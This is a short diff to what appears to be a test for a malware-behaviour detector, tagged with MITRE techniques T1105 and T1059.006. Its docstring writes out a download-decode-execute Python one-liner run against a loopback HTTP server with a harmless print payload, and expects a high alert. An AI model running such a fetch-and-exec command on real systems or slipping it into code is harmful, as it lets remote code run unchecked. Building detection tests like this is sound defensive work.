@@ -1,5 +1,14 @@
+# technique: T1105 T1059.006
 # expect: download-execute-command download-then-exec
-# The seed's one-liner, against a real HTTP server on the loopback.
+"""Ingress Tool Transfer (T1105) then Command and Scripting Interpreter:
+Python (T1059.006): the seed's one-liner, `python -c "exec(b64decode(
+urlopen(URL).read()))"`, against a real HTTP server on the loopback. The
+payload arrives base64-encoded and is run by a child interpreter started
+with `-c`, so the fetch and the `exec` happen in another process than the
+script's.
+
+A good detector raises a high alert: code downloaded from the network is
+decoded and run (`download-execute-command`, `download-then-exec`)."""
 import base64, http.server, subprocess, sys, threading
 
 payload = base64.b64encode(b"print('payload ran')")
